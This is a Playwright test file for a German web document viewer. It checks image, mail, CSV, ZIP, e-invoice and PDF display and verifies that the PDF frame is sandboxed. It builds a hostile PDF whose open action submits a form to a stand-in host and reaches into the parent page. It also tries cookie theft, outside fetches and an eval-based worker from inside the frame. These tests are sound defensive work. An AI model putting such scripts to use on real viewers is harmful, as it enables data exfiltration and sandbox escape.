import { PDFDocument, PDFName, PDFString } from "pdf-lib";
import { givenClient, givenContact, type Person } from "@/lib/testing/given";
import { bringFile, eml, heic, png, tiff, ublInvoice, zip } from "@/lib/testing/given-files";
import { openAs, phone, signIn } from "./support/people";
import { expect, expectAccessible, test } from "./support/story";

// What the room is refused, its console says.
test.use({ provoked: /pdfjs\/room|elsewhere\.example|Content Security Policy|blob:null/ });

async function givenFiles(by: Person, client: { id: string }, files: Record<string, Uint8Array | string>) {
  const filed: Record<string, string> = {};
  for (const [name, content] of Object.entries(files)) {
    const outcome = await bringFile({ client, by, name, content });
    if (outcome.status !== "filed") throw new Error(`${name}: ${JSON.stringify(outcome)}`);
    filed[name] = `/clients/${client.id}/documents/${outcome.documentId}`;
  }
  return (name: string) => filed[name] ?? "";
}

test("pictures of phones and scanners, mails, tables and e-invoices are read in the page", async ({
  page,
  context,
  browser,
  watched,
}) => {
  const { client, responsible } = await givenClient();
  const contact = await givenContact({ client });
  const at = await givenFiles(contact, client, {
    "Bon.heic": heic(),
    "Scan.tif": await tiff(3),
    "Post.eml": eml(),
    "Kasse.csv": Buffer.from("Datum;Text;Betrag\r\n01.03.2026;Br\u00f6tchen;12,50\r\n", "latin1"),
    "Rechnung.xml": ublInvoice(),
    "Paket.zip": await zip({ "2026/März/Rechnung.txt": "zwölf Euro" }),
    "Brief.rtf": "{\\rtf1\\ansi Hallo}",
  });
  await signIn(context, responsible);

  await page.goto(at("Bon.heic"));
  const photo = page.getByRole("img", { name: "Bon.heic" });
  await expect(photo).toHaveJSProperty("naturalWidth", 64);
  await expect(page.getByText("1 von 7")).toBeVisible();
  await page.getByRole("button", { name: "Drehen" }).click();
  await expect(photo).toHaveAttribute("style", /rotate\(90deg\)/);
  await page.keyboard.press("ArrowRight");
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("Brief.rtf");
  await expect(page.getByText("Office-Dateien öffnen Sie auf Ihrem Gerät")).toBeVisible();

  await page.goto(at("Scan.tif"));
  await expect(page.getByText("1 von 3", { exact: true })).toBeVisible();
  await page.keyboard.press("PageDown");
  await expect(page.getByRole("img", { name: "Scan.tif, Seite 2" })).toHaveJSProperty("naturalWidth", 80);

  await page.goto(at("Post.eml"));
  const mail = page.getByRole("article", { name: "E-Mail" });
  await expect(mail.getByRole("heading", { name: "Belege für März" })).toBeVisible();
  await expect(mail).toContainText("Sabine Müller <sabine@krume.example>");
  await expect(mail).toContainText("anbei die Belege & Bons.");
  await expect(mail.locator("img, script, iframe, style")).toHaveCount(0);
  await expect(mail).toContainText("Rechnung.exe (nicht angeboten");
  const saved = page.waitForEvent("download");
  await mail.getByRole("link", { name: "Rechnung.pdf" }).click();
  expect((await saved).suggestedFilename()).toBe("Rechnung.pdf");
  await expectAccessible(page);

  await page.goto(at("Kasse.csv"));
  await expect(page.getByRole("cell", { name: "Brötchen" })).toBeVisible();

  await page.goto(at("Paket.zip"));
  await expect(page.getByRole("row", { name: /2026\/März\/Rechnung\.txt/ })).toContainText(/1\sKB/);
  await expectAccessible(page);

  await page.goto(at("Rechnung.xml"));
  const facts = page.getByRole("complementary", { name: "Angaben zum Dokument" });
  await expect(facts).toContainText("E-Rechnung");
  await expect(facts).toContainText("Mühle & Söhne GmbH");
  await expect(facts).toContainText("09.03.2026");
  await expect(facts).toContainText("1.256,29\u00a0€");
  await expect(page.getByText("<cbc:ID>26-0318</cbc:ID>")).toBeVisible();
  await expectAccessible(page);

  const small = await openAs(browser, contact, watched, phone);
  await small.goto(at("Kasse.csv"));
  await expect(small.getByRole("cell", { name: "Brötchen" })).toBeVisible();
  expect(await small.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0);
});

/** A PDF of two pages that would like to run something as soon as it is opened. */
async function pdfWithScript(): Promise<Uint8Array> {
  const made = await PDFDocument.create();
  for (const words of ["Erste Seite", "Zweite Seite"]) made.addPage([300, 400]).drawText(words, { x: 30, y: 300, size: 24 });
  const script = "app.alert('lief'); this.submitForm('https://elsewhere.example/'); top.document.title = 'lief';";
  const action = made.context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(script) });
  made.catalog.set(PDFName.of("OpenAction"), action);
  return made.save();
}

test("a PDF with a script is shown and its script is not run", async ({ page, context }) => {
  test.slow();
  const { client, responsible } = await givenClient();
  const contact = await givenContact({ client });
  const at = await givenFiles(contact, client, { "Skript.pdf": await pdfWithScript() });
  await signIn(context, responsible);
  const elsewhere: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(process.env.APP_URL ?? "")) elsewhere.push(request.url());
  });
  page.on("dialog", (dialog) => {
    elsewhere.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(at("Skript.pdf"));
  await expect(page.getByText("Erste Seite")).toBeAttached();
  await page.keyboard.press("PageDown");
  await expect(page.getByText("Zweite Seite")).toBeAttached();
  // Counted in the background, after everything that somebody waits for.
  await expect(page.getByRole("complementary")).toContainText("2 Seiten", { timeout: 90_000 });
  await expect(page).toHaveTitle(/Skript\.pdf/);
  await expectAccessible(page);
  expect(elsewhere.filter((address) => !address.startsWith("blob:") && !address.startsWith("data:"))).toEqual([]);
});

test("the room in which a PDF is drawn reaches neither the page nor the network", async ({ page, context }) => {
  const { client, responsible } = await givenClient();
  const contact = await givenContact({ client });
  const at = await givenFiles(contact, client, { "Rechnung.pdf": await pdfWithScript() });
  await signIn(context, responsible);
  await page.goto(at("Rechnung.pdf"));
  await expect(page.locator("canvas")).toBeVisible();
  const room = page.frames().find((frame) => new URL(frame.url()).pathname === "/pdfjs/room");
  const outcomes = await room?.evaluate(async () => {
    const attempts: Record<string, () => unknown> = {
      cookies: () => document.cookie,
      storage: () => localStorage.length,
      page: () => parent.document.title,
      fetch: () => fetch("/api/health"),
      elsewhere: () => fetch("https://elsewhere.example/"),
      worker: () =>
        new Promise((resolve, reject) => {
          // In here the browser's own tools, which may evaluate anything, lend nobody their rights.
          const address = JSON.stringify(new URL("/api/health", location.href).href);
          const source = `try { new Function("")(); postMessage(1); } catch { fetch(${address}).then(() => postMessage(1), () => postMessage(0)); }`;
          const worker = new Worker(`data:text/javascript,${encodeURIComponent(source)}`, { type: "module" });
          worker.onerror = () => reject(new Error("no"));
          worker.onmessage = ({ data }) => (data ? resolve(data) : reject(new Error("no")));
        }),
    };
    const reached: string[] = [];
    for (const [name, attempt] of Object.entries(attempts)) {
      await Promise.resolve()
        .then(attempt)
        .then(
          () => reached.push(name),
          () => undefined,
        );
    }
    return { reached, origin: self.origin };
  });
  expect(outcomes).toEqual({ reached: [], origin: "null" });
  expect((await page.request.get("/pdfjs/room")).headers()["content-security-policy"]).toContain("sandbox allow-scripts");
});

test("pages, size and turning go by key and by button, in a PDF and in a picture", async ({
  page,
  context,
  browser,
  watched,
}) => {
  const { client, responsible } = await givenClient();
  const contact = await givenContact({ client });
  const at = await givenFiles(contact, client, { "A.pdf": await pdfWithScript(), "B.png": await png(80, 60) });
  await signIn(context, responsible);
  await page.goto(at("A.pdf"));
  const canvas = page.locator("canvas");
  await expect(canvas).toBeVisible();
  const lies = async () => {
    const box = await canvas.boundingBox();
    return box && (box.width > box.height ? "across" : "upright");
  };
  await expect.poll(lies).toBe("upright");
  await page.keyboard.press("r");
  await expect.poll(lies).toBe("across");
  await page.getByRole("button", { name: "Drehen" }).click();
  await expect.poll(lies).toBe("upright");
  const tools = page.getByRole("toolbar", { name: "Ansicht" });
  const fitted = (await tools.textContent()) ?? "";
  await page.keyboard.press("+");
  await expect(tools).not.toHaveText(fitted);
  await page.keyboard.press("0");
  await expect(tools).toHaveText(fitted);
  await page.keyboard.press("End");
  await expect(tools).toContainText("2 von 2");
  await page.keyboard.press("PageUp");
  await expect(tools).toContainText("1 von 2");

  await page.keyboard.press("ArrowRight");
  const picture = page.getByRole("img", { name: "B.png" });
  await expect(picture).toHaveJSProperty("naturalWidth", 80);
  await page.keyboard.press("+");
  await expect(tools).toContainText("125");
  await page.keyboard.press("-");
  await page.keyboard.press("r");
  await expect(picture).toHaveAttribute("style", /rotate\(90deg\)/);
  await page.getByRole("textbox", { name: "Kommentar" }).focus();
  await page.keyboard.type("+r0");
  await expect(tools).toContainText("100");
  await page.keyboard.press("ArrowLeft");
  await expect(picture).toBeVisible();

  const small = await openAs(browser, contact, watched, phone);
  await small.goto(at("A.pdf"));
  await expect(small.locator("canvas")).toBeVisible();
  expect(await small.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0);
});
